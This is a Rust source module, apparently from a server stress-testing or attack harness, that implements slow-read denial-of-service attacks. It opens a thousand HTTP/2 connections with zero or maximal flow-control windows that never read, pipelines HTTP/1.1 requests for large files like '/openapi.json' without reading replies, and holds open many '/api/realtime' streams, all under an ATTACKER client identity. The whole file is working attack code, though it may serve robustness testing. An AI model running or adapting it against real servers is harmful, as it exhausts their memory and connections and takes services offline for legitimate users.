//! Answers that their clients do not take.

use std::io;
use std::time::Duration;

use tokio::io::AsyncWriteExt;
use tokio::net::TcpStream;

use super::Target;
use super::bodies::streams;
use super::client::{ATTACKER, connect, connect_small, crowd, drain};
use crate::frames::{self, END_STREAM, GET, INITIAL_WINDOW_SIZE, WINDOW_UPDATE, frame, greeting};

/// The longest documents that there are.
const PATHS: [&str; 2] = ["/openapi.json", "/assets/swagger-ui/swagger-ui-bundle.js"];
const CONNECTIONS: usize = 1_000;
const IN_A_ROW: usize = 5;
const REALTIME_CONNECTIONS: usize = 33;
/// Between two looks at whether a connection is still there.
const LOOK: Duration = Duration::from_millis(250);
/// The most that a window may be.
const WIDE: u32 = (1 << 31) - 1;

/// Half of them have a window of 0, the others a wide one and do not read.
pub async fn http2(target: Target) {
    let narrow = crowd(CONNECTIONS / 2, {
        let target = target.clone();
        move || narrow(target.clone())
    });
    let wide = crowd(CONNECTIONS / 2, move || wide(target.clone()));
    tokio::join!(narrow, wide);
}

async fn narrow(target: Target) -> io::Result<()> {
    let mut stream = connect(ATTACKER, target.address).await?;
    ask(&mut stream, &greeting(&[(INITIAL_WINDOW_SIZE, 0)]), &PATHS).await?;
    drain(&mut stream).await;
    Ok(())
}

async fn wide(target: Target) -> io::Result<()> {
    let mut stream = connect_small(target.address).await?;
    let more = frame(WINDOW_UPDATE, 0, 0, &(WIDE - 65_535).to_be_bytes());
    let greeting = [greeting(&[(INITIAL_WINDOW_SIZE, WIDE)]), more].concat();
    ask(&mut stream, &greeting, &PATHS).await?;
    until_closed(&stream).await
}

/// `GET` of these paths on all streams.
async fn ask(stream: &mut TcpStream, greeting: &[u8], paths: &[&str]) -> io::Result<()> {
    let requests = streams().zip(paths.iter().cycle());
    let requests =
        requests.flat_map(|(stream, path)| frames::request(GET, stream, END_STREAM, path, &[]));
    stream
        .write_all(&[greeting, &requests.collect::<Vec<_>>()].concat())
        .await
}

/// Several requests on each connection, and nothing read.
pub async fn http1(target: Target) {
    crowd(CONNECTIONS, move || http1_connection(target.clone())).await;
}

async fn http1_connection(target: Target) -> io::Result<()> {
    let mut stream = connect_small(target.address).await?;
    for path in PATHS.iter().cycle().take(IN_A_ROW) {
        stream
            .write_all(format!("GET {path} HTTP/1.1\r\nHost: x\r\n\r\n").as_bytes())
            .await?;
    }
    until_closed(&stream).await
}

/// Looks now and then whether the server has reset the connection, without reading.
async fn until_closed(stream: &TcpStream) -> io::Result<()> {
    loop {
        tokio::time::sleep(LOOK).await;
        if let Some(error) = stream.take_error()? {
            return Err(error);
        }
    }
}

/// Streams of events on many streams, of which all that comes is read.
pub async fn realtime_http2(target: Target) {
    crowd(REALTIME_CONNECTIONS, move || {
        realtime_connection(target.clone())
    })
    .await;
}

async fn realtime_connection(target: Target) -> io::Result<()> {
    let mut stream = connect(ATTACKER, target.address).await?;
    ask(&mut stream, &greeting(&[]), &["/api/realtime"]).await?;
    drain(&mut stream).await;
    Ok(())
}
